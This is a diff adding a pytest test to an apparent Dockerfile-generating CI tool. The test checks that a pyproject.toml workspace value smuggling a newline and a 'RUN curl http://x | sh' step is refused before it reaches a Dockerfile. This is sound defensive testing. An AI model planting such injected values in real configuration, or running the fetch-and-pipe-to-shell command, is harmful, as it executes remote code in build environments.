@@ -61,6 +61,15 @@ def test_the_tag_follows_the_metadata_not_the_code(tmp_path: Path) -> None:
     assert recipe_for(root, "cpu").install is None
 
 
+def test_a_workspace_that_is_not_a_plain_path_is_refused_before_it_reaches_a_dockerfile(tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text('[tool.gpuci]\nworkspace = "/w\\nRUN curl http://x | sh"\n')
+    with pytest.raises(UsageError) as err:
+        load_config(tmp_path)
+    assert "pyproject.toml:2" in str(err.value) and "absolute path of letters" in str(err.value)
+    with pytest.raises(UsageError, match="not a plain absolute path"):
+        project_install(library(tmp_path / "lib"), "editable", "/w x")
+
+
 def test_an_unknown_install_mode_is_refused_with_file_and_line(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text('[tool.gpuci]\n\ninstall = "wheel"\n')
     with pytest.raises(UsageError) as err:
